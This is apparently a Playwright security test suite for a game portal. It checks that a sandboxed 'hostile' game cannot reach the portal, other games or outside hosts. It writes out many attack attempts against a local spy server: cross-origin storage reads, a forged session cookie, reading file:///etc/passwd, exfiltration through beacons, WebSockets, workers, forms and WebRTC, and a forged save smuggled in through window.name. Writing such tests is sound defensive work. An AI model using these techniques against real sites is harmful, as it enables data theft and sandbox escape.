import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, request as requestFrom } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Frame, Page } from '@playwright/test';
import { EMPTY_SAVE } from '../src/features/saves/frame-save.ts';
import { testBrowser } from '../scripts/test-browser.ts';
import { findFreePort } from '../server/testing/free-ports.ts';
import { freePorts } from '../server/testing/portal-process.ts';
import { expect, startTestPortal, test } from './fixtures.ts';

/** Each game has a host of its own here, as in a deployment. */
const ARGS = [
  '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE *.localhost, EXCLUDE 127.0.0.1',
];

test.use({
  launchOptions: { ...testBrowser(), args: ARGS },
  serviceWorkers: 'allow',
  // Whatever is refused says so.
  expectedErrors: [/./],
});

let stop = async () => {};
let dataDir = '';
let portal = '';
let play = (_slug: string) => '';
test.beforeAll(async () => {
  const ports = await freePorts();
  portal = `http://localhost:${ports.PORT}`;
  play = (slug) => `http://${slug}.localhost:${ports.PLAY_PORT}`;
  dataDir = await mkdtemp(join(tmpdir(), 'playport-hostile-'));
  stop = await startTestPortal({
    ...ports,
    PLAY_ORIGIN: play('{game}'),
    DATA_DIR: dataDir,
    LOG_LEVEL: 'error',
    UPLOADED_GAMES: 'on',
  });
});
test.afterAll(async () => {
  await stop();
  await rm(dataDir, { recursive: true, force: true });
});

/** Another site, which notes whatever reaches it. */
async function startSpy() {
  const seen: string[] = [];
  const http = createServer((request, response) => {
    seen.push(`request of ${request.url}`);
    response.end();
  }).on('connection', () => seen.push('connection'));
  const udp = createSocket('udp4');
  const datagram = once(udp, 'message');
  const port = await findFreePort();
  http.listen(port, '127.0.0.1');
  udp.bind(port, '127.0.0.1');
  await Promise.all([once(http, 'listening'), once(udp, 'listening')]);
  const close = () => {
    http.closeAllConnections();
    http.close();
    udp.close();
  };
  return { seen, datagram, host: `127.0.0.1:${port}`, close };
}

interface Aims {
  /** The host of a site that is told something. */
  readonly spy: string;
  readonly portal: string;
  /** The origin of another game. */
  readonly other: string;
}

/** Opens a game's page and starts the game, whose frame is there then. */
async function start(page: Page, slug: string): Promise<Frame | null> {
  await page.goto(`${portal}/games/${slug}`);
  const frame = await startHere(page, slug);
  await expect(page.getByText('Secure', { exact: true })).toBeVisible();
  return frame;
}

async function startHere(page: Page, slug: string): Promise<Frame | null> {
  await page.getByRole('button', { name: /Play/ }).first().click();
  await expect.poll(() => page.frame({ url: `${play(slug)}/v1/` })).not.toBeNull();
  return page.frame({ url: `${play(slug)}/v1/` });
}

/** Tries everything in the game's frame; returns what came of each attempt, or the name of its error. */
const attack = (frame: Frame, aims: Aims) =>
  frame.evaluate(async ({ spy, portal: own, other }) => {
    const site = `http://${spy}`;
    const results: Record<string, string> = {};
    const attempt = async (name: string, work: () => unknown) => {
      results[name] = await Promise.resolve()
        .then(work)
        .then(String, (error) => (error instanceof Error ? error.name : String(error)));
    };
    const add = (tag: string, attributes: Readonly<Record<string, string>>) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
      return element;
    };
    const load = (tag: string, attributes: Readonly<Record<string, string>>) =>
      new Promise((done) => {
        const element = add(tag, attributes);
        element.addEventListener('load', () => done('loaded'));
        element.addEventListener('error', () => done('refused'));
      });
    const blocked = (work: () => unknown) =>
      new Promise((done) => {
        const told = ({ effectiveDirective }: SecurityPolicyViolationEvent) => done(effectiveDirective);
        document.addEventListener('securitypolicyviolation', told, { once: true });
        work();
      });
    const refused = (target: EventTarget) =>
      new Promise((done) => {
        target.addEventListener('error', () => done('refused'));
      });
    const said = (worker: Worker) =>
      new Promise((done) => {
        worker.addEventListener('message', ({ data }) => done(data));
        // A worker has no origin to name.
        // oxlint-disable-next-line unicorn/require-post-message-target-origin
        worker.postMessage(`${site}/from-worker`);
      });

    // These say nothing when they fail, so they come first.
    add('link', { rel: 'preconnect', href: site });
    add('link', { rel: 'dns-prefetch', href: site });
    const rules = { prefetch: [{ source: 'list', urls: [`${site}/speculation`], eagerness: 'immediate' }] };
    add('script', { type: 'speculationrules' }).textContent = JSON.stringify(rules);

    await attempt('the page around it', () => parent.document.title);
    await attempt('the storage of the portal', () => parent.localStorage.length);
    await attempt('the storage of another game', () => localStorage.getItem('of keys'));
    await attempt('a read of the API', () => fetch(`${own}/api/me`, { credentials: 'include' }));
    await attempt('a write to the API', () =>
      fetch(`${own}/api/contact`, { method: 'POST', mode: 'no-cors', credentials: 'include' }),
    );
    await attempt('a cookie for the portal', () => {
      document.cookie = 'playport_session=stolen; domain=localhost; path=/';
      return document.cookie;
    });
    await attempt('another game', () => fetch(`${other}/v1/`, { mode: 'no-cors' }));
    await attempt('fetch', () => fetch(site, { mode: 'no-cors' }));
    await attempt('beacon', () => blocked(() => navigator.sendBeacon(`${site}/beacon`)));
    await attempt('WebSocket', () => refused(new WebSocket(`ws://${spy}/`)));
    await attempt('EventSource', () => refused(new EventSource(`${site}/events`)));
    await attempt('image', () => load('img', { src: `${site}/image` }));
    await attempt('script', () => load('script', { src: `${site}/script` }));
    await attempt('style', () => load('link', { rel: 'stylesheet', href: `${site}/style` }));
    await attempt('video', () => load('video', { src: `${site}/video` }));
    await attempt('prefetch', () => load('link', { rel: 'prefetch', href: `${site}/prefetch` }));
    await attempt('frame', () => blocked(() => add('iframe', { src: `${site}/frame` })));
    await attempt('frame of another game', () => blocked(() => add('iframe', { src: `${other}/v1/` })));
    await attempt('file', () => fetch('file:///etc/passwd'));
    await attempt('file as an image', () => load('img', { src: 'file:///etc/hostname' }));
    await attempt('worker of another site', () => new Worker(`${site}/worker.js`));
    await attempt('worker of its own that calls', () => said(new Worker('worker.js')));
    await attempt('worker of a blob that calls', async () => {
      const source = await (await fetch('worker.js')).blob();
      return said(new Worker(URL.createObjectURL(source)));
    });
    await attempt('service worker', () => navigator.serviceWorker.register('worker.js'));
    await attempt('service worker of the origin', () =>
      navigator.serviceWorker.register('worker.js', { scope: '/' }),
    );
    // A script that a cache may have by now.
    await attempt('service worker of a script that it has read', async () => {
      await (await fetch('worker.js')).text();
      return navigator.serviceWorker.register('worker.js', { updateViaCache: 'all' });
    });
    await attempt('window', () => window.open(`${site}/window`));
    await attempt('position', () => {
      const { geolocation } = navigator;
      return new Promise((_, failed) => {
        geolocation.getCurrentPosition(
          () => {},
          ({ code, PERMISSION_DENIED }) => failed(code === PERMISSION_DENIED ? 'denied' : 'other'),
        );
      });
    });
    await attempt('top navigation', () => {
      if (top !== null) top.location.href = `${site}/top`;
    });
    add('a', { href: `${site}/link`, target: '_blank' }).click();
    add('a', { href: 'worker.js', download: 'game.exe' }).click();
    const form = document.createElement('form');
    Object.assign(form, { action: `${site}/form`, method: 'post' });
    document.body.append(form);
    form.submit();
    return results;
  }, aims);

test('a hostile game reaches neither the portal nor anybody else', async ({ page, context }) => {
  const spy = await startSpy();
  const downloads: unknown[] = [];
  page.on('download', (download) => downloads.push(download));
  await start(page, 'keys');
  const keys = page.locator('iframe[title="Keys"]').contentFrame();
  await keys.locator('body').evaluate(() => localStorage.setItem('of keys', 'secret'));

  const frame = await start(page, 'hostile');
  if (frame === null) throw new Error('The game is not framed.');
  expect(await attack(frame, { spy: spy.host, portal, other: play('keys') })).toEqual({
    'the page around it': 'SecurityError',
    'the storage of the portal': 'SecurityError',
    'the storage of another game': 'null',
    'a read of the API': 'TypeError',
    'a write to the API': 'TypeError',
    'a cookie for the portal': '',
    'another game': 'TypeError',
    fetch: 'TypeError',
    beacon: 'connect-src',
    WebSocket: 'refused',
    EventSource: 'refused',
    image: 'refused',
    script: 'refused',
    style: 'refused',
    video: 'refused',
    prefetch: 'refused',
    frame: 'frame-src',
    'frame of another game': 'frame-src',
    file: 'TypeError',
    'file as an image': 'refused',
    'worker of another site': 'SecurityError',
    'worker of its own that calls': 'refused',
    'worker of a blob that calls': 'refused',
    'service worker': 'TypeError',
    'service worker of the origin': 'TypeError',
    'service worker of a script that it has read': 'TypeError',
    window: 'null',
    position: 'denied',
    'top navigation': 'SecurityError',
  });
  expect(page.url()).toBe(`${portal}/games/hostile`);
  expect(context.pages()).toHaveLength(1);

  // It leaves its frame: the page around it blocks that.
  await frame.evaluate((site) => location.assign(site), `http://${spy.host}/left`);
  await expect(page.getByText('Origin not in security allowlist')).toBeVisible();
  expect(downloads).toEqual([]);
  await fetch(`http://${spy.host}/control`);
  expect(spy.seen).toEqual(['connection', 'request of /control']);
  spy.close();
});

test('a save that a game hands to another game, by the name of its window, is not taken', async ({
  page,
}) => {
  const keys = page.locator('iframe[title="Keys"]').contentFrame().locator('body');
  await start(page, 'keys');
  await keys.evaluate(() => localStorage.setItem('best', '7'));
  const frame = await start(page, 'hostile');
  const save = { fingerprint: EMPTY_SAVE.fingerprint, state: { local: { best: 'forged' }, files: [] } };
  const name = {
    playport: 2,
    scope: '/',
    keys: [],
    folders: {},
    base: null,
    save,
    replaces: true,
    token: '',
  };
  await frame?.evaluate(
    ([text = '', address = '']) => {
      window.name = text;
      location.href = address;
    },
    [JSON.stringify(name), `${play('keys')}/v1/`],
  );
  // The page around it blocks that; and in a tab, where no policy stands around it, no game runs.
  await expect(page.getByText('Origin not in security allowlist')).toBeVisible();
  await page.goto(`${play('hostile')}/v1/`);
  await expect(page).toHaveURL(`${portal}/games/hostile`);
  await start(page, 'keys');
  expect(await keys.evaluate(() => localStorage.getItem('best'))).toBe('7');
});

for (const [how, open] of Object.entries({
  'opened by its address': (page: Page) => page.goto(`${portal}/kids/play/keys`),
  'come to from the Kids Zone': async (page: Page) => {
    await page.goto(`${portal}/kids`);
    await page.getByRole('link', { name: /Keys/ }).first().click();
  },
}))
  test(`a game of the Kids Zone, ${how}, leads its frame to no other game`, async ({ page }) => {
    await open(page);
    const frame = await startHere(page, 'keys');
    await expect(page.frameLocator('iframe[title="Keys"]').getByText('Press a key')).toBeVisible();
    await frame?.evaluate((address) => location.assign(address), `${play('tally')}/v1/`);
    await expect(page.getByText('This game is asleep today.')).toBeVisible();
    expect(page.frames().map((one) => one.url())).not.toContain(`${play('tally')}/v1/`);
  });

test('a game that holds the lock of saved games does not keep their hidden page open', async ({ page }) => {
  await page.clock.install();
  const frame = await start(page, 'hostile');
  await frame?.evaluate(() => void navigator.locks.request('saved-games', () => new Promise(() => {})));
  const hidden = page.locator('iframe[title="Saved games"]');
  await page.getByRole('button', { name: 'Save for offline' }).click();
  await expect(hidden).toHaveCount(1);
  await expect(async () => {
    await page.clock.fastForward(61_000);
    await expect(hidden).toHaveCount(0, { timeout: 500 });
  }).toPass();
});

test('a service worker that a cache has let through ends when the portal next asks that origin', async ({
  page,
}) => {
  const { port } = new URL(play('hostile'));
  // Passes on everything but what says that a service worker's script, or a window, is asked for.
  const careless = createServer((asked, answer) => {
    const { 'service-worker': _worker, 'sec-fetch-dest': _window, ...headers } = asked.headers;
    requestFrom({ port, path: asked.url, headers }, (response) => {
      answer.writeHead(response.statusCode ?? 502, response.headers);
      response.pipe(answer);
    }).end();
  });
  const between = await findFreePort();
  careless.listen(between, 'localhost');
  await once(careless, 'listening');
  const origin = `http://hostile.localhost:${between}`;
  await page.goto(`${origin}/v1/`);
  const workers = () =>
    page.evaluate(async () => {
      const registrations = await navigator.serviceWorker.getRegistrations();
      return registrations.map(({ scope }) => new URL(scope).pathname);
    });
  await page.evaluate(async () => {
    await navigator.serviceWorker.register('worker.js');
    await navigator.serviceWorker.ready;
  });
  expect(await workers()).toEqual(['/v1/']);
  await page.goto(`${origin}/_saved-games/`);
  await expect.poll(workers).toEqual([]);
  careless.closeAllConnections();
  careless.close();
});

test('no packet of WebRTC leaves a game, which a page without its policy sends', async ({
  page,
  context,
}) => {
  const spy = await startSpy();
  const gather = (server: string) =>
    new Promise<string>((resolve) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${server}` }] });
      peer.onicegatheringstatechange = () => {
        if (peer.iceGatheringState === 'complete') resolve('complete');
      };
      peer.createDataChannel('out');
      void peer.setLocalDescription();
    });
  const datagram = spy.datagram.then(() => 'a packet');
  const frame = await start(page, 'hostile');
  expect(await Promise.race([datagram, frame?.evaluate(gather, spy.host)])).toBe('complete');
  const plain = await context.newPage();
  await plain.route('http://plain.localhost/', (route) =>
    route.fulfill({ body: '<p>Plain</p>', contentType: 'text/html' }),
  );
  await plain.goto('http://plain.localhost/');
  void plain.evaluate(gather, spy.host).catch(() => null);
  expect(await datagram).toBe('a packet');
  spy.close();
});
